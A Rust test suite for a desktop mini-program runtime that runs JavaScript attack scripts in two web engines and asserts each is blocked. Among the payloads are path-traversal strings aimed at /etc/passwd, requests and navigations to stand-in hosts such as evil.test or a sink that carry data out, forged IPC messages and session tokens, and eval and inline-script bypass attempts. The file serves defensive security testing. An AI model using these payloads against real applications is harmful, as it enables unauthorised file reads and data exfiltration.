//! The attack rows that need a real engine; row numbers are those of the threat list.
use crate::{
    harness::in_both_engines,
    hostile::{attack, bundle, listen},
    sink::Sink,
};
use lodger_desktop::{HostEvent, WebEngine};
use serde_json::json;

/// What a script that runs when it must not would do.
const RAN: &str = "window.ran = (window.ran || 0) + 1";

in_both_engines! {
    /// Each package's code comes once; a second load would cost every start, and run a script's effects twice.
    fn code_is_loaded_once(engine) {
        let script = "say('scripts', performance.getEntriesByType('resource').filter((e) => e.name.endsWith('package.js')).length
            || [...document.scripts].filter((s) => s.src.endsWith('package.js')).length)";
        let (_driver, said) = attack(engine, script, &[]);
        assert_eq!(said["scripts"], 1);
    }

    /// Row 40, and the control that shows that a script can run at all.
    fn scripts_from_data_paths_do_not_run(engine) {
        let sink = Sink::new(|_| ("image/png", RAN.into()));
        let script = format!(r"
            const remote = '/.lodger/fetch/' + encodeURIComponent('{}')
            for (const src of [remote, '/.lodger/blob/x', '/.lodger/file/x', '/.lodger/sync/1', '/other.js'])
              say(src.split('/').slice(0, 3).join('/'), await load('script', {{ src }}))
            say('module', await load('script', {{ src: remote, type: 'module' }}))
            say('import', await import(remote).then(() => 'load', () => 'error'))
            say('worker', await new Promise((done) => {{
              try {{
                const worker = new Worker(remote)
                worker.onerror = () => done('error')
                worker.onmessage = () => done('load')
              }} catch {{ done('error') }}
            }}))
            say('ran', window.ran)
            say('fetched', (await get(remote)).text)
            say('control', await load('script', {{ src: '/p/mine.js' }}))
            say('control ran', window.ran)
        ", sink.url("/evil.png"));
        let (_driver, said) = attack(engine, &script, &[("mine.js", "text/javascript", RAN)]);
        for path in ["/.lodger/fetch", "/.lodger/blob", "/.lodger/file", "/.lodger/sync", "/other.js", "module", "import", "worker"] {
            assert_eq!(said[path], "error", "{path}");
        }
        assert_eq!(said["ran"], json!(null));
        assert_eq!((&said["control"], &said["control ran"]), (&json!("load"), &json!(1)));
    }

    /// Row 4: what a frame runs, if it runs at all, has no way to call.
    fn frames_cannot_call(engine) {
        let (mut driver, said) = attack(engine, r"
            const frame = (attributes) => new Promise((done) => {
              const element = Object.assign(document.createElement('iframe'), attributes)
              element.onload = element.onerror = () => done('ended')
              // A frame that may not be loaded says nothing in one engine and loads nothing in the other.
              document.addEventListener('securitypolicyviolation', () => done('ended'), { once: true })
              setTimeout(() => done('ended'), 500)
              document.body.append(element)
            })
            window.calls = []
            await frame({ src: '/p/frame.html' })
            await frame({ src: 'https://evil.test/' })
            await frame({ src: URL.createObjectURL(new Blob(['<script src=/p/call.js></scr' + 'ipt>'], { type: 'text/html' })) })
            await frame({ srcdoc: '<script src=/p/call.js></scr' + 'ipt>' })
            say('calls', window.calls)
            wx.setStorageSync('after', 'still works')
            say('alive', wx.getStorageSync('after'))
            say('stolen', wx.getStorageSync('stolen'))
        ", &[
            ("frame.html", "text/html", "<script src=/p/call.js></script>"),
            ("call.js", "text/javascript", r"
                parent.calls.push(location.href)
                const text = JSON.stringify({ v: 1, doc: '0'.repeat(32), seq: 1, id: 1, api: 'setStorage', args: { key: 'stolen', data: 'x' } })
                try { window.webkit.messageHandlers.ipc.postMessage(text) } catch {}
                fetch('/.lodger/message', { method: 'POST', body: text, headers: { 'X-Lodger-Session': '0'.repeat(32) } })
            "),
        ]);
        assert_eq!(said["stolen"], "", "{said:?}");
        assert_eq!(said["alive"], "still works");
        assert_eq!(driver.counters().unwrap()["documents"], 1);
    }

    /// Rows 2 and 25: hosts that look like ours.
    fn lookalike_hosts_give_nothing(engine) {
        let (mut driver, said) = attack(engine, r"
            const own = location.host
            const scheme = location.protocol
            const urls = [`//evil.test/p/app.json`, `${scheme}//${own}.evil.test/p/app.json`, `${scheme}//x${own}/p/app.json`,
              `${scheme}//${own}@evil.test/p/app.json`, `http://app.evil.com/p/app.json`, `${scheme}//evil.test\\@${own}/p/app.json`]
            const got = []
            for (const url of urls) {
              const { status, text } = await get(url)
              if (text.includes('pages')) got.push(['fetch', url, status])
              if (await load('script', { src: url.replace('app.json', 'mine.js') }) === 'load') got.push(['script', url])
              if (await new Promise((done) => Object.assign(new Image(), { src: url, onload: () => done(true), onerror: () => done(false) }))) got.push(['image', url])
            }
            say('got', got)
            say('ran', window.ran)
            const requests = []
            for (const url of ['//evil.test/x', 'javascript:alert(1)', 'http://evil.test@127.0.0.1\\.good.test/', 'content://x/y', 'https://a.test\t/', 'ftp://a.test/'])
              requests.push(await call('request', { url }))
            say('requests', requests)
            say('own', (await get('/p/app.json')).status)
        ", &[("mine.js", "text/javascript", RAN)]);
        assert_eq!(said["got"], json!([]));
        assert_eq!(said["ran"], json!(null));
        for answer in said["requests"].as_array().unwrap() {
            assert!(answer["err"].as_str().is_some_and(|text| text.starts_with("request:fail")), "{answer}");
        }
        assert_eq!(said["own"], 200);
        drop(driver.counters());
    }

    /// Rows 28 and 29.
    fn local_files_cannot_be_read(engine) {
        let (_driver, said) = attack(engine, r"
            const got = []
            for (const url of ['file:///etc/passwd', 'content://settings/system', 'lodger-shell://ui/', 'view-source:file:///etc/passwd']) {
              if ((await get(url)).status !== 0) got.push(['fetch', url])
              if (await load('script', { src: url }) === 'load') got.push(['script', url])
              if (await load('link', { rel: 'stylesheet', href: url }) === 'load') got.push(['style', url])
              const fetched = await get('/.lodger/fetch/' + encodeURIComponent(url))
              if (fetched.status < 400) got.push(['engine', url, fetched])
              const answer = await call('request', { url })
              if (!answer.err) got.push(['request', url, answer])
            }
            say('got', got)
        ", &[]);
        assert_eq!(said["got"], json!([]));
    }

    /// Row 30: the index is the list of what there is.
    fn paths_do_not_leave_the_bundle(engine) {
        let (_driver, said) = attack(engine, r"
            const got = []
            for (const path of ['/p/../../etc/passwd', '/p/%2e%2e/%2e%2e/etc/passwd', '/p/..%2f..%2fetc/passwd', '/p/%2fetc/passwd',
              '/p//etc/passwd', '/p/app.json%00.js', '/p/APP.JSON', '/p/./app.json/..%5c', '/p/', '/p', '/etc/passwd', '/.lodger/',
              '/.lodger/rt/../../app.json', '/.lodger/file/..%2f..%2fdatabase', '/p/%c0%ae%c0%ae/app.json', '/p/%zz']) {
              const { status } = await get(path)
              if (status < 400 && status !== 0) got.push([path, status])
            }
            say('got', got)
            say('control', (await get('/p/app.json')).status)
        ", &[]);
        assert_eq!(said["got"], json!([]));
        assert_eq!(said["control"], 200);
    }

    /// No service worker registers, from this window or from a frame's.
    fn service_workers_do_not_register(engine) {
        let (_driver, said) = attack(engine, r"
            say('here', typeof navigator.serviceWorker)
            delete Navigator.prototype.serviceWorker
            say('deleted', typeof navigator.serviceWorker)
            const frame = document.body.appendChild(document.createElement('iframe'))
            const container = frame.contentWindow && frame.contentWindow.navigator.serviceWorker
            say('frame', container ? await container.register(location.origin + '/p/mine.js', { scope: location.origin + '/p/' }).then(() => 'registered', () => 'refused') : 'refused')
            say('script', (await get('/p/mine.js', { headers: { 'Service-Worker': 'script' } })).status)
        ", &[("mine.js", "text/javascript", RAN)]);
        assert_eq!((&said["here"], &said["deleted"], &said["frame"]), (&json!("undefined"), &json!("undefined"), &json!("refused")));
        assert!(said["script"] == 403 || said["script"] == 200, "browsers may strip the header themselves: {said:?}");
    }

    /// Row 39: content cannot trigger calls, and without the session's header nothing is answered.
    fn calls_need_the_session_header(engine) {
        let (mut driver, said) = attack(engine, r"
            const message = JSON.stringify({ v: 1, doc: 'x', seq: 1, id: 1, api: 'clearStorage', args: {} })
            const statuses = {}
            for (const path of ['/.lodger/sync/1', '/.lodger/events', '/.lodger/blob/x']) {
              statuses[path] = (await get(path)).status
              statuses[path + ' guessed'] = (await get(path, { headers: { 'X-Lodger-Session': '0'.repeat(32) } })).status
            }
            say('statuses', statuses)
            say('post', (await get('/.lodger/message', { method: 'POST', body: message })).status)
            say('image', await load('img', { src: '/.lodger/sync/1' }))
            const style = document.head.appendChild(document.createElement('style'))
            style.textContent = `body { background: url(/.lodger/sync/1) } @font-face { font-family: x; src: url(/.lodger/blob/1) }`
            wx.setStorageSync('kept', 'yes')
            say('kept', wx.getStorageSync('kept'))
        ", &[]);
        for (path, status) in said["statuses"].as_object().unwrap() {
            assert_eq!(status, 403, "{path}");
        }
        assert!(said["post"].as_u64().unwrap() >= 403, "{said:?}");
        assert_eq!((&said["image"], &said["kept"]), (&json!("error"), &json!("yes")));
        assert!(driver.counters().unwrap()["refusedResources"] >= 7);
    }

    /// The document's token is given out once, and guessed ones lead nowhere.
    fn the_token_is_given_once(engine) {
        let (mut driver, said) = attack(engine, r"
            say('hello', (await get('/.lodger/hello')).status)
            wx.setStorageSync('mine', '1')
            for (const doc of ['', '0'.repeat(32), 'x'.repeat(32)]) {
              const text = JSON.stringify({ v: 1, doc, seq: 999, id: 999, api: 'clearStorage', args: {} })
              if (window.ipc) window.ipc.postMessage(text)
              else await get('/.lodger/message', { method: 'POST', body: text, headers: { 'X-Lodger-Session': doc } })
            }
            for (const text of ['', '{', '[]', 'null', '{\'v\':1}', 'x'.repeat(2 << 20), '['.repeat(100000)])
              if (window.ipc) window.ipc.postMessage(text)
            say('mine', wx.getStorageSync('mine'))
        ", &[]);
        assert_eq!(said["hello"], 403);
        assert_eq!(said["mine"], "1", "a guessed token must not clear the storage");
        let counters = driver.counters().unwrap();
        match engine {
            WebEngine::Webkit => {
                assert!(counters["wrongDocument"] >= 2 && counters["malformed"] >= 7, "{counters:?}");
            }
            // There the header is checked first, so the messages do not even arrive.
            WebEngine::Chromium => assert!(counters["refusedResources"] >= 4, "{counters:?}"),
        }
    }

    /// No code from strings, in the window itself.
    fn strings_are_not_code(engine) {
        let (_driver, said) = attack(engine, r"
            const tried = {}
            const attempt = (name, run) => { try { run(); tried[name] = 'ran' } catch (error) { tried[name] = error.name } }
            attempt('eval', () => (0, eval)('window.ran = 1'))
            attempt('Function', () => new Function('window.ran = 1')())
            attempt('constructor', () => (() => 0).constructor('window.ran = 1')())
            say('tried', tried)
            say('inline', await violated(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s) }))
            say('handler', await violated(() => { document.body.insertAdjacentHTML('beforeend', '<a onclick=window.ran=1>x</a>'); document.body.lastElementChild.click() }))
            setTimeout('window.ran = 1', 0)
            await new Promise((done) => setTimeout(done, 50))
            say('data', await load('script', { src: 'data:text/javascript,window.ran=1' }))
            say('blob', await load('script', { src: URL.createObjectURL(new Blob(['window.ran = 1'])) }))
            const wasm = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)
            say('wasm', typeof WebAssembly === 'object' ? await WebAssembly.compile(wasm).then(() => 'ran', () => 'refused') : 'refused')
            say('ran', window.ran)
        ", &[]);
        assert_eq!(said["tried"], json!({ "eval": "EvalError", "Function": "EvalError", "constructor": "EvalError" }));
        for name in ["inline", "handler"] {
            assert!(said[name].as_str().unwrap().starts_with("script-src"), "{name}: {said:?}");
        }
        assert_eq!((&said["data"], &said["blob"]), (&json!("error"), &json!("error")));
        // WebKit compiles WebAssembly under any policy; it can do no more there than JavaScript.
        assert!(said["wasm"] == "refused" || engine == WebEngine::Webkit);
        assert_eq!(said["ran"], json!(null));
    }

    /// Row 33: nothing leaves but by `wx.request`, which does reach the same server.
    fn nothing_leaves_past_the_engine(engine) {
        let sink = Sink::new(|_| ("text/plain", b"here".to_vec()));
        let script = format!(r"
            const url = '{}'
            await get(url)
            await load('img', {{ src: url }})
            await load('link', {{ rel: 'stylesheet', href: url }})
            await load('script', {{ src: url }})
            try {{ navigator.sendBeacon(url, 'x') }} catch {{}}
            await new Promise((done) => {{
              try {{ const socket = new WebSocket(url.replace('http', 'ws')); socket.onopen = socket.onerror = done }} catch {{ done() }}
            }})
            try {{ const source = new EventSource(url); await new Promise((done) => source.onerror = done); source.close() }} catch {{}}
            document.head.append(Object.assign(document.createElement('link'), {{ rel: 'prefetch', href: url }}))
            const style = document.head.appendChild(document.createElement('style'))
            style.textContent = `body {{ background: url(${{url}}) }}`
            document.body.getBoundingClientRect()
            const media = document.body.appendChild(document.createElement('video'))
            await new Promise((done) => {{ media.onerror = done; media.src = url }})
            const form = Object.assign(document.createElement('form'), {{ action: url, method: 'post' }})
            document.body.append(form)
            form.submit()
            say('request', await call('request', {{ url: url + '?wanted' }}))
        ", sink.url("/leak"));
        let (_driver, said) = attack(engine, &script, &[]);
        assert_eq!(said["request"]["ok"]["data"], "here", "{said:?}");
        let paths: Vec<_> = sink.hits().into_iter().map(|hit| hit.path).collect();
        assert_eq!(paths, ["/leak?wanted"]);
    }
}

/// Row 3, in a window: it does not leave its program.
#[test]
fn a_window_does_not_navigate_away() {
    let sink = Sink::new(|_| ("text/html", b"elsewhere".to_vec()));
    // A navigation that is still being decided is replaced by the next, hence the pauses in the page.
    let script = format!(
        r"
        const pause = () => new Promise((done) => setTimeout(done, 150))
        const link = (attributes) => {{ document.body.append(Object.assign(document.createElement('a'), attributes)); document.body.lastElementChild.click() }}
        location.href = '{0}?secret'
        await pause()
        location.assign('file:///etc/passwd')
        await pause()
        link({{ href: location.href.replace('//', '//x') }})
        await pause()
        link({{ href: '{0}/blank', target: '_blank' }})
        window.open('{0}/open')
        link({{ href: 'data:text/plain,x', download: 'x' }})
        await pause()
        say('still here', location.protocol)
        ",
        sink.url("/away")
    );
    let (driver, said) = attack(WebEngine::Webkit, &script, &[]);
    assert_eq!(said["still here"], "lodger:");
    assert!(sink.hits().is_empty(), "{:?}", sink.hits());
    let refused: Vec<_> = driver
        .events()
        .iter()
        .filter_map(|event| match event {
            HostEvent::Refused { what, url } if what == "navigation" => Some(url.as_str()),
            _ => None,
        })
        .collect();
    assert!(refused.contains(&sink.url("/away").as_str()), "a query stays out of reports: {refused:?}");
    assert!(refused.iter().any(|url| url.starts_with("lodger://xm")), "{refused:?}");
    assert!(refused.iter().all(|url| !url.contains("secret")), "{refused:?}");
}

/// Row 3, in a browser: the user's browser may go where it likes, but what it finds there cannot call.
#[test]
fn a_foreign_page_in_the_same_browser_cannot_call() {
    let sink = Sink::new(|hit| match hit.path.as_str() {
        "/call.js" => ("text/javascript", FOREIGN.into()),
        path if path.starts_with("/away") => ("text/html", b"<script src=/call.js></script>".to_vec()),
        _ => ("text/plain", Vec::new()),
    });
    let script = format!(
        "wx.setStorageSync('mine', '1'); say('leaving'); location.href = '{}?' + location.origin",
        sink.url("/away")
    );
    let mut driver = crate::harness::driver(WebEngine::Chromium);
    driver.open(&bundle(&script, &[]), lodger_desktop::Entry::default()).unwrap();
    listen(&mut driver);
    let before = driver.counters().unwrap();
    let tried = sink.wait_for("/tried");
    assert_eq!(tried.body, b"blocked,blocked,blocked", "{tried:?}");
    let after = driver.counters().unwrap();
    assert_eq!((after["messages"], after["documents"]), (before["messages"], before["documents"]));
}

/// Calls the program's origin, given in the query, in every way that needs no permission; tells its own server.
const FOREIGN: &str = r"
const origin = location.search.slice(1)
const message = JSON.stringify({ v: 1, doc: 'x', seq: 1, id: 1, api: 'clearStorage', args: {} })
const attempt = (url, init) => fetch(url, init).then((response) => (response.type === 'opaque' ? 'blocked' : 'answered'), () => 'blocked')
Promise.all([
  attempt(origin + '/.lodger/message', { method: 'POST', body: message, mode: 'no-cors', credentials: 'include' }),
  attempt(origin + '/.lodger/hello', { credentials: 'include' }),
  attempt(origin + '/', { mode: 'no-cors', credentials: 'include' }),
]).then((results) => fetch('/tried', { method: 'POST', body: results.join() }))
";
